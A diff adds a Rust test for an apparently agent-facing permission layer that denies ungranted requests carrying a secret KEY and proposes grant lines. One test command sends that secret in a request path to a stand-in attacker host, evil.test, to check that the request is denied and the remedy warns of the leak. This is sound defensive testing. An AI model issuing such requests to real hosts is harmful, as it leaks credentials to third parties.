@@ -99,3 +99,22 @@ fn no_failure_names_the_filled_path() {
     assert!(broken.stdout.contains("failed"), "{}", broken.stdout);
     broken.assert_sealed();
 }
+
+#[test]
+fn a_path_that_is_not_granted_is_denied_with_lines_that_allow_it_and_keep_the_place() {
+    let asks = |room: AgentFixture| room.run(&["send GET https://api.test/bot{KEY}/sendMessage"]);
+    let denied = asks(AgentFixture::granted(PLACE));
+
+    let denial = denied.records("denial").remove(0);
+    let lines = denial["remedy"].as_str().unwrap().split_once(":\n").unwrap().1;
+    assert!(lines.contains("paths = [\"/*/sendMessage\"]") && lines.contains("place = [\"path:/bot{}/**\"]"), "{lines}");
+    let allowed = asks(AgentFixture::granted(PLACE).and(lines));
+    assert_eq!(allowed.seen[0].path(), format!("/bot{VALUE}/sendMessage"), "{}", allowed.stdout);
+
+    // A host that has no grant gets a place for this path alone, and whoever adds it is told what that means.
+    let elsewhere = AgentFixture::granted(PLACE).run(&["send GET https://evil.test/hook/x{KEY}y/z"]);
+    let denial = elsewhere.records("denial").remove(0);
+    let remedy = denial["remedy"].as_str().unwrap();
+    assert!(remedy.contains("# this gives KEY to evil.test") && remedy.contains("place = [\"path:/hook/x{}y/z\"]"), "{remedy}");
+    assert!(remedy.contains("paths = [\"/hook/*/z\"]"), "{remedy}");
+}
